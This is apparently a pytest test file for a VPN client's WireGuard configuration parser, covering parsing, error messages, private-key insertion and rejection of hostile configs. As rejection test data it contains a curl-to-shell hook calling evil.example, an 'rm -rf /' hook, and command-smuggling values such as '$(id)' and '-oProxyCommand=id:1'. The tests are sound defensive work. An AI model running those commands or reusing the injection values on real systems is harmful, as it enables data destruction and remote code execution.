"""WireGuard configurations: what real servers send, line-numbered errors, the client's private key."""

from __future__ import annotations

import ipaddress
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gui.core.errors import ConfigError, SluisError
from gui.core.vpnconfig import (
    Endpoint,
    WireGuardConfig,
    parse_wireguard,
    render_wireguard,
    with_private_key,
)
from gui.core.wgkeys import generate_keypair

SERVER_KEY = "iWAHXts9w9fQVEbA5pVriPlAYMwwEPD5XcVCZDZn1AE="
CLIENT_KEY = "+BaCmdzp/55FXY3XrZ2jGL6E1ihHM0vwJiD6XyHKPk4="
PSK = "nmZ5ExqRpLgJV9yWKlaC7KQ7EAN7eRJ4XBz9eHJPmUU="

# As a vpn-user-portal 3.4 server sends it: comment header, no PrivateKey, lists without spaces,
# search domains after the resolvers on the DNS line, an MTU, split-tunnel routes, no final newline.
OBSERVED = """\
# Portal: https://vpn.example.org/vpn-user-portal/
# Profile: Employees (employees)
# Expires: 2027-02-24T11:08:33+00:00

[Interface]
Address = 10.43.43.2/24,fd43::2/64
DNS = 10.43.43.1,fd43::1,example.org,corp.example.org
MTU = 1392

[Peer]
PublicKey = iWAHXts9w9fQVEbA5pVriPlAYMwwEPD5XcVCZDZn1AE=
AllowedIPs = 10.43.43.0/24,fd43::/64,192.168.178.0/24,10.0.0.0/8
Endpoint = vpn.example.org:51820"""

# The API draft's full example (the server generated the key pair back then).
DRAFT = """\
[Interface]
PrivateKey = +BaCmdzp/55FXY3XrZ2jGL6E1ihHM0vwJiD6XyHKPk4=
Address = 10.10.10.12/24, fd00:1234:1234:1234::a0a:a0c/64
DNS = 9.9.9.9, 2620:fe::fe

[Peer]
PublicKey = Gwcpqv5WeCI3XotETskDXQLfYQk0fi8gEpuCQVIoKGc=
AllowedIPs = 0.0.0.0/0, ::/0
Endpoint = vpn.example:51820
PersistentKeepalive = 25
"""

# WireGuard over TCP: no Endpoint, the server's TCP proxy instead.
OVER_TCP = """\
[Interface]
MTU = 1392
Address = 10.146.176.5/24,fdee:1ead:29e8:22a2::5/64
DNS = 9.9.9.9,2620:fe::fe

[Peer]
PublicKey = iWAHXts9w9fQVEbA5pVriPlAYMwwEPD5XcVCZDZn1AE=
AllowedIPs = 0.0.0.0/0,::/0
ProxyEndpoint = https://vpn.example.org/proxyguard
"""


def test_observed_server_config() -> None:
    config = parse_wireguard(OBSERVED)
    iface = config.interface
    assert iface.private_key is None
    assert iface.addresses == (ipaddress.ip_interface("10.43.43.2/24"), ipaddress.ip_interface("fd43::2/64"))
    assert iface.dns_servers == (ipaddress.ip_address("10.43.43.1"), ipaddress.ip_address("fd43::1"))
    assert iface.dns_search_domains == ("example.org", "corp.example.org")
    assert iface.mtu == 1392
    (peer,) = config.peers
    assert peer.public_key == SERVER_KEY
    assert peer.endpoint == Endpoint("vpn.example.org", 51820) == ("vpn.example.org", 51820)
    assert [str(n) for n in peer.allowed_ips] == [
        "10.43.43.0/24",
        "fd43::/64",
        "192.168.178.0/24",
        "10.0.0.0/8",
    ]
    assert peer.persistent_keepalive is None
    assert peer.preshared_key is None
    assert peer.proxy_endpoint is None
    assert config.ignored_keys == ()


def test_draft_config_with_spaces_and_keepalive() -> None:
    config = parse_wireguard(DRAFT)
    assert config.interface.private_key == CLIENT_KEY
    assert [str(a) for a in config.interface.addresses] == [
        "10.10.10.12/24",
        "fd00:1234:1234:1234::a0a:a0c/64",
    ]
    assert config.interface.dns_search_domains == ()
    assert config.peers[0].persistent_keepalive == 25
    assert [str(n) for n in config.peers[0].allowed_ips] == ["0.0.0.0/0", "::/0"]


def test_wireguard_over_tcp_has_a_proxy_instead_of_an_endpoint() -> None:
    (peer,) = parse_wireguard(OVER_TCP).peers
    assert peer.endpoint is None
    assert peer.proxy_endpoint == "https://vpn.example.org/proxyguard"


def test_case_insensitive_names_comments_crlf_repeated_lists_and_ipv6_endpoint() -> None:
    text = (
        "[interface]   # the client\r\n"
        "address = 10.0.0.2/32\r\n"
        "ADDRESS = fd00::2  # second address\r\n"
        "\tDNS=10.0.0.1\r\n"
        "ListenPort = 51000\r\n"
        "[ Peer ]\r\n"
        "publickey = iWAHXts9w9fQVEbA5pVriPlAYMwwEPD5XcVCZDZn1AE=\r\n"
        f"PresharedKey = {PSK}\r\n"
        "AllowedIPs = 10.0.0.1/24\r\n"
        "AllowedIPs = ::/0\r\n"
        "Endpoint = [2001:db8::1]:51820\r\n"
        "PersistentKeepalive = off\r\n"
    )
    config = parse_wireguard(text)
    assert [str(a) for a in config.interface.addresses] == ["10.0.0.2/32", "fd00::2/128"]
    peer = config.peers[0]
    assert [str(n) for n in peer.allowed_ips] == ["10.0.0.0/24", "::/0"]
    assert peer.endpoint == Endpoint("2001:db8::1", 51820)
    assert str(peer.endpoint) == "[2001:db8::1]:51820"
    assert peer.preshared_key == PSK
    assert peer.persistent_keepalive is None
    assert config.ignored_keys == ("ListenPort",)


def test_repr_never_shows_private_or_preshared_keys() -> None:
    config = parse_wireguard(DRAFT.replace("PersistentKeepalive = 25", f"PresharedKey = {PSK}"))
    shown = repr(config)
    assert config.peers[0].preshared_key == PSK
    assert CLIENT_KEY not in shown
    assert PSK not in shown
    assert config.peers[0].public_key in shown


def _replace_line(text: str, number: int, new: str) -> str:
    lines = text.split("\n")
    lines[number - 1] = new
    return "\n".join(lines)


@pytest.mark.parametrize(
    ("number", "line", "fragment"),
    [
        (6, "Address = 10.43.43.300/24", "not an IP address"),
        (6, "Address = 10.43.43.2/24,,fd43::2/64", "empty entry"),
        (6, "Address = fe80::1%eth0/64", "not an IP address"),
        (8, "MTU =", "no value"),
        (7, "DNS = 10.43.43.1, not a domain!", "neither an IP address nor a domain"),
        (8, "MTU = 9000000", "MTU"),
        (8, "MTU = ١٣٩٢", "MTU"),
        (8, "MTU = +1392", "MTU"),
        (8, "MTU = 10", "MTU"),
        (8, "PostUp = curl https://evil.example | sh", "would run commands"),
        (8, "predown = rm -rf /", "would run commands"),
        (8, "this line has no equals sign", "Key = value"),
        (8, "[Interface", "must end with"),
        (8, "[Socks5]", "unknown section"),
        (8, "[Interface]", "second [Interface]"),
        (8, "Address\x00 = 10.0.0.1", "control character"),
        (8, "DNS = 10.43.43.1\x0b", "control character"),
        (11, "PublicKey = not-a-key", "PublicKey is not a valid WireGuard key"),
        (11, "PublicKey = iWAHXts9w9fQVEbA5pVriPlAYMwwEPD5XcVCZDZn1AF=", "not a valid WireGuard key"),
        (12, "AllowedIPs = 10.0.0.0/33", "not an IP network"),
        (13, "Endpoint = vpn.example.org", "host:port"),
        (13, "Endpoint = vpn.example.org:0", "not a port number"),
        (13, "Endpoint = vpn.example.org:65536", "not a port number"),
        (13, "Endpoint = vpn.example.org:5182O", "not a port number"),
        (13, "Endpoint = 2001:db8::1:51820", "brackets"),
        (13, "Endpoint = [vpn.example.org]:51820", "IPv6 address"),
        (13, "Endpoint = vpn example.org:51820", "not a host name"),
        (12, "PersistentKeepalive = soon", "PersistentKeepalive"),
        (12, "PersistentKeepalive = 65536", "PersistentKeepalive"),
        (12, "ProxyEndpoint = ftp://vpn.example.org/", "http(s)"),
        (12, "ProxyEndpoint = https://vpn.example.org:http/", "http(s)"),
    ],
)
def test_errors_name_the_line(number: int, line: str, fragment: str) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_wireguard(_replace_line(OBSERVED, number, line))
    message = str(caught.value)
    assert message.startswith(f"The VPN configuration is not valid: line {number}: "), message
    assert fragment in message
    assert caught.value.params["line"] == number


def test_private_key_values_never_appear_in_errors() -> None:
    bad_key = CLIENT_KEY[:-2] + "x="
    with pytest.raises(ConfigError) as caught:
        parse_wireguard(DRAFT.replace(CLIENT_KEY, bad_key))
    assert "line 2" in str(caught.value)
    assert bad_key not in str(caught.value)


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("", "no [Interface]"),
        ("# only a comment\n", "no [Interface]"),
        ("[Interface]\nAddress = 10.0.0.2/32\n", "no [Peer]"),
        ("Address = 10.0.0.2/32\n[Interface]\n", "line 1: “Address” comes before any"),
        (
            "[Interface]\n[Peer]\nPublicKey = " + SERVER_KEY + "\nEndpoint = h:1\n",
            "line 1: the [Interface] section has no Address",
        ),
        (
            "[Interface]\nAddress = 10.0.0.2/32\n[Peer]\nEndpoint = h:1\n",
            "line 3: the [Peer] section has no PublicKey",
        ),
        (
            "[Interface]\nAddress = 10.0.0.2/32\n[Peer]\nPublicKey = " + SERVER_KEY + "\n",
            "line 3: the [Peer] section has no Endpoint",
        ),
        (
            "[Interface]\nAddress = 10.0.0.2/32\n[Peer]\nPublicKey = "
            + SERVER_KEY
            + "\nPublicKey = "
            + SERVER_KEY,
            "line 5: PublicKey appears twice",
        ),
        (
            "[Interface]\nAddress = 10.0.0.2/32\n[Peer]\nPublicKey = " + SERVER_KEY + "\nEndpoint = h:1\n"
            "[Peer]\nPublicKey = " + SERVER_KEY + "\nEndpoint = h:2\n",
            "line 6: a second [Peer] with the same",
        ),
    ],
)
def test_structural_errors(text: str, fragment: str) -> None:
    with pytest.raises(ConfigError, match=fragment.replace("[", r"\[").replace("]", r"\]")):
        parse_wireguard(text)


def test_empty_lists_are_empty() -> None:
    dns_line = "DNS = 10.43.43.1,fd43::1,example.org,corp.example.org"
    config = parse_wireguard(OBSERVED.replace(dns_line, "DNS ="))
    assert config.interface.dns_servers == ()
    assert config.interface.dns_search_domains == ()
    with pytest.raises(ConfigError, match=r"line 5: the \[Interface\] section has no Address"):
        parse_wireguard(OBSERVED.replace("Address = 10.43.43.2/24,fd43::2/64", "Address ="))


def test_empty_private_key_is_a_placeholder() -> None:
    config = parse_wireguard(OBSERVED.replace("[Interface]\n", "[Interface]\nPrivateKey =\n"))
    assert config.interface.private_key is None


# --- the client's private key -------------------------------------------------------------------


def test_private_key_goes_first_into_interface_and_comments_stay() -> None:
    pair = generate_keypair()
    text = with_private_key(OBSERVED, pair.private_key)
    lines = text.split("\n")
    at = lines.index("[Interface]")
    assert lines[at + 1] == f"PrivateKey = {pair.private_key}"
    assert lines[:3] == OBSERVED.split("\n")[:3]  # the "# Portal:" header is kept
    assert [line for line in lines if not line.startswith("PrivateKey")] == OBSERVED.split("\n")
    parsed = parse_wireguard(text)
    assert parsed.interface.private_key == pair.private_key
    assert replace(parsed.interface, private_key=None) == parse_wireguard(OBSERVED).interface


def test_private_key_replaces_an_existing_one_and_only_in_interface() -> None:
    new = generate_keypair().private_key
    text = with_private_key(DRAFT + "# PrivateKey = in a comment\n", new)
    assert CLIENT_KEY not in text
    assert text.count("PrivateKey = ") == 2  # the new key and the comment
    assert parse_wireguard(text).interface.private_key == new
    # Inserting twice gives the same text as once.
    assert with_private_key(text, new) == text


def test_private_key_keeps_crlf_line_endings() -> None:
    crlf = OBSERVED.replace("\n", "\r\n")
    text = with_private_key(crlf, CLIENT_KEY)
    assert "\r\n" not in text.replace("\r\n", "")
    assert text.count("\n") == crlf.count("\n") + 1
    assert f"[Interface]\r\nPrivateKey = {CLIENT_KEY}\r\n" in text
    assert parse_wireguard(text).interface.private_key == CLIENT_KEY


@pytest.mark.parametrize(
    ("text", "key"),
    [
        (OBSERVED, "not-a-key"),
        (OBSERVED, ""),
        ("[Peer]\n", CLIENT_KEY),
        (OBSERVED + "\n[Interface]\n", CLIENT_KEY),
    ],
)
def test_private_key_insertion_errors(text: str, key: str) -> None:
    with pytest.raises(ConfigError):
        with_private_key(text, key)


# --- rendering ---------------------------------------------------------------------------------


def test_render_round_trips_and_omits_what_wg_quick_does_not_know() -> None:
    for sample in (OBSERVED, DRAFT):
        config = parse_wireguard(sample)
        assert parse_wireguard(render_wireguard(config)) == config
    tcp = parse_wireguard(OVER_TCP)
    local = replace(tcp, peers=(replace(tcp.peers[0], endpoint=Endpoint("127.0.0.1", 1337)),))
    rendered = render_wireguard(local)
    assert "ProxyEndpoint" not in rendered
    assert "Endpoint = 127.0.0.1:1337" in rendered
    assert "DNS = 10.43.43.1, fd43::1, example.org, corp.example.org" in render_wireguard(
        parse_wireguard(OBSERVED)
    )


def test_render_drops_unknown_keys() -> None:
    config = parse_wireguard(OBSERVED.replace("MTU = 1392", "MTU = 1392\nTable = off\nSaveConfig = true"))
    assert config.ignored_keys == ("Table", "SaveConfig")
    assert "Table" not in render_wireguard(config)
    assert "SaveConfig" not in render_wireguard(config)


# --- hostile configurations ---------------------------------------------------------------------

# What wg-quick (or wg setconf) would act on beyond the tunnel itself: hooks run as root; Table,
# FwMark, SaveConfig and ListenPort change routing, marking, the file on disk and a listening port.
HOSTILE = """\
[Interface]
Address = 10.43.43.2/24
ListenPort = 22
FwMark = 0x1
Table = 1234
SaveConfig = true
TABLE = off
PublicKey = iWAHXts9w9fQVEbA5pVriPlAYMwwEPD5XcVCZDZn1AE=
Endpoint = evil.example:1
Jc = 4
# PostUp = rm -rf /
DNS = 9.9.9.9 # PostDown = id

[Peer]
PublicKey = iWAHXts9w9fQVEbA5pVriPlAYMwwEPD5XcVCZDZn1AE=
PrivateKey = +BaCmdzp/55FXY3XrZ2jGL6E1ihHM0vwJiD6XyHKPk4=
AllowedIPs = 0.0.0.0/0
Endpoint = vpn.example.org:51820
DNS = 1.1.1.1
Table = auto
ListenPort = 51820
"""
# The only keys render_wireguard may write.
RENDERED_KEYS = {
    "PrivateKey", "Address", "DNS", "MTU", "PublicKey", "PresharedKey", "AllowedIPs", "Endpoint",
    "PersistentKeepalive",
}  # fmt: skip


def _rendered_keys(rendered: str) -> list[str]:
    """The keys of a rendered configuration; fails on anything but sections and ``Key = value``."""
    keys = []
    for line in rendered.splitlines():
        if line in {"", "[Interface]", "[Peer]"}:
            continue
        key, sep, value = line.partition(" = ")
        assert sep and value and "#" not in line and key in RENDERED_KEYS, line
        keys.append(key)
    return keys


def test_render_writes_only_what_a_client_needs_from_a_hostile_config() -> None:
    config = parse_wireguard(HOSTILE)
    rendered = render_wireguard(config)
    for name in ("ListenPort", "FwMark", "Table", "SaveConfig", "Jc", "PostUp", "PostDown", "evil.example"):
        assert name.lower() not in rendered.lower()
    assert "PrivateKey" not in rendered  # a key in [Peer] is not the client's key
    assert _rendered_keys(rendered) == ["Address", "DNS", "PublicKey", "AllowedIPs", "Endpoint"]
    assert set(config.ignored_keys) == {
        "ListenPort", "FwMark", "Table", "SaveConfig", "TABLE", "PublicKey", "Endpoint", "Jc", "PrivateKey",
        "DNS",
    }  # fmt: skip
    # Written back with the client's key, it is still only that.
    with_key = render_wireguard(parse_wireguard(with_private_key(HOSTILE, CLIENT_KEY)))
    assert _rendered_keys(with_key) == ["PrivateKey", "Address", "DNS", "PublicKey", "AllowedIPs", "Endpoint"]
    assert f"PrivateKey = {CLIENT_KEY}" in with_key


@pytest.mark.parametrize("hook", ["PreUp", "PostUp", "PreDown", "PostDown", "postup", "POSTDOWN", " preup "])
@pytest.mark.parametrize("section", ["Interface", "Peer"])
def test_hooks_are_refused_in_any_spelling_and_section(hook: str, section: str) -> None:
    lines = DRAFT.split("\n")
    at = lines.index(f"[{section}]") + 1
    lines.insert(at, f"{hook}= /bin/sh -c id")
    with pytest.raises(ConfigError, match=f"line {at + 1}: .*would run commands"):
        parse_wireguard("\n".join(lines))


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("DNS", "1.1.1.1; PostUp = id"),
        ("DNS", "1.1.1.1, $(id)"),
        ("Address", "10.0.0.2/32 PostUp"),
        ("AllowedIPs", "0.0.0.0/0 -j ACCEPT"),
        ("Endpoint", "vpn.example:51820;id"),
        ("Endpoint", "-oProxyCommand=id:1"),
        ("PersistentKeepalive", "25 && id"),
    ],
)
def test_values_cannot_smuggle_anything(key: str, value: str) -> None:
    lines = DRAFT.split("\n")
    at = next(n for n, line in enumerate(lines) if line.startswith(f"{key} = "))
    lines[at] = f"{key} = {value}"
    with pytest.raises(ConfigError, match=f"line {at + 1}: "):
        parse_wireguard("\n".join(lines))


# --- garbage in --------------------------------------------------------------------------------

KEYS = [
    "PrivateKey",
    "Address",
    "DNS",
    "MTU",
    "PublicKey",
    "PresharedKey",
    "AllowedIPs",
    "Endpoint",
    "PersistentKeepalive",
    "ProxyEndpoint",
    "ListenPort",
    "PostUp",
    "[Interface]",
    "[Peer]",
    "#",
]
VALUES = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        [
            SERVER_KEY,
            CLIENT_KEY,
            "10.0.0.1/24",
            "fd00::1",
            "::/0",
            "vpn.example:51820",
            "[::1]:1",
            "1392",
            "off",
            "https://x/",
            "a,b",
            ",",
            "=",
            "[",
            "]",
        ]
    ),
    st.ip_addresses().map(str),
)
LINES = st.one_of(
    st.text(max_size=40),
    st.builds(
        lambda k, sep, v: f"{k}{sep}{v}",
        st.sampled_from(KEYS),
        st.sampled_from([" = ", "=", " ", ""]),
        VALUES,
    ),
)


def _check(text: str) -> None:
    try:
        config = parse_wireguard(text)
    except SluisError:
        return
    assert isinstance(config, WireGuardConfig)
    assert config.interface.addresses
    assert config.peers
    if any(p.endpoint is None for p in config.peers):
        return  # WireGuard over TCP: rendering needs the local proxy's endpoint first
    # What parses renders to something that parses to the same values, with only the client's keys.
    _rendered_keys(render_wireguard(config))
    assert parse_wireguard(render_wireguard(config)) == replace(
        config,
        ignored_keys=(),
        peers=tuple(replace(p, proxy_endpoint=None) for p in config.peers),
    )


@given(st.text(max_size=200))
def test_random_text(text: str) -> None:
    _check(text)


@given(st.lists(LINES, max_size=12))
def test_random_lines(lines: list[str]) -> None:
    _check("\n".join(lines))


@given(st.sampled_from([OBSERVED, DRAFT, OVER_TCP]), st.integers(0, 15), LINES, st.booleans())
def test_random_line_in_a_valid_config(sample: str, at: int, line: str, overwrite: bool) -> None:
    lines = sample.split("\n")
    at = min(at, len(lines) - 1)
    if overwrite:
        lines[at] = line
    else:
        lines.insert(at, line)
    text = "\n".join(lines)
    _check(text)
    try:
        inserted = with_private_key(text, CLIENT_KEY)
    except SluisError:
        return
    assert f"PrivateKey = {CLIENT_KEY}" in inserted


@given(
    st.lists(
        st.ip_addresses().map(lambda a: ipaddress.ip_interface(f"{a}/{a.max_prefixlen}")),
        min_size=1,
        max_size=3,
    ),
    st.lists(st.ip_addresses(), max_size=3),
    st.lists(st.from_regex(r"[a-z]{1,10}(\.[a-z]{1,10}){0,2}", fullmatch=True), max_size=2),
    st.integers(1, 65535),
    st.booleans(),
)
def test_generated_configs_parse_back_to_the_same_values(
    addresses: list[ipaddress.IPv4Interface | ipaddress.IPv6Interface],
    servers: list[ipaddress.IPv4Address | ipaddress.IPv6Address],
    domains: list[str],
    port: int,
    spaces: bool,
) -> None:
    sep = ", " if spaces else ","
    text = (
        "[Interface]\n"
        f"Address = {sep.join(map(str, addresses))}\n"
        + (f"DNS = {sep.join([*map(str, servers), *domains])}\n" if servers or domains else "")
        + f"[Peer]\nPublicKey = {SERVER_KEY}\n"
        + f"AllowedIPs = 0.0.0.0/0{sep}::/0\nEndpoint = vpn.example:{port}\n"
    )
    config = parse_wireguard(text)
    assert config.interface.addresses == tuple(addresses)
    assert config.interface.dns_servers == tuple(servers)
    assert config.interface.dns_search_domains == tuple(domains)
    assert config.peers[0].endpoint == Endpoint("vpn.example", port)
    assert parse_wireguard(render_wireguard(config)) == config


def test_via_local_proxy_cuts_the_proxy_out_of_allowed_ips_and_points_at_loopback() -> None:
    import ipaddress

    from gui.core.vpnconfig import Endpoint, parse_wireguard, via_local_proxy

    config = parse_wireguard(
        "[Interface]\nAddress = 10.46.46.2/24\n[Peer]\n"
        "PublicKey = xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\n"
        "AllowedIPs = 0.0.0.0/0, ::/0, 10.0.0.0/8\n"
        "ProxyEndpoint = https://vpn.example.org/proxyguard\n"
    )
    (peer,) = via_local_proxy(config, 40123, "192.0.2.44").peers
    assert peer.endpoint == Endpoint("127.0.0.1", 40123) and peer.proxy_endpoint is None
    v4 = [n for n in peer.allowed_ips if n.version == 4 and n != ipaddress.ip_network("10.0.0.0/8")]
    assert len(v4) == 32
    assert sum(n.num_addresses for n in v4) == 2**32 - 1
    assert not any(ipaddress.ip_address("192.0.2.44") in n for n in v4)
    assert any(ipaddress.ip_address("192.0.2.45") in n for n in v4)
    assert (
        ipaddress.ip_network("::/0") in peer.allowed_ips
        and ipaddress.ip_network("10.0.0.0/8") in peer.allowed_ips
    )
